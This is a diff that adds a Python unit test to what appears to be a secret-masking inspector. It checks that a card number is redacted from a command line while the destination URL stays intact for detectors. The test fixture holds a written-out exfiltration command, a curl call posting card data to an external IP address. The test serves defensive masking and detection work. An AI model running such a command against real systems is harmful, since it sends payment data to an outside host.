@@ -105,6 +105,15 @@ def test_nothing_stays_in_tools_parameters_urls_errors_or_command_lines(inspecto
     }
 
 
+def test_a_command_line_keeps_what_detectors_live_on(inspector: Inspector) -> None:
+    line = ("bash", "-c", "curl -d 'card 4111 1111 1111 1111' http://203.0.113.7/x", "--to", "ann@example.org")
+    masked = inspector.command_line(line)
+    assert "4111" not in " ".join(masked)
+    assert "[financial.card" in masked[2]
+    assert "203.0.113.7/x" in masked[2]
+    assert (masked[0], masked[1], masked[3], masked[4]) == ("bash", "-c", "--to", "ann@example.org")
+
+
 def test_a_value_found_with_its_context_goes_everywhere(inspector: Inspector) -> None:
     """The second place alone would say too little; it is the same value."""
     secret = "tR7vQ2xZ9mK4pL8w"
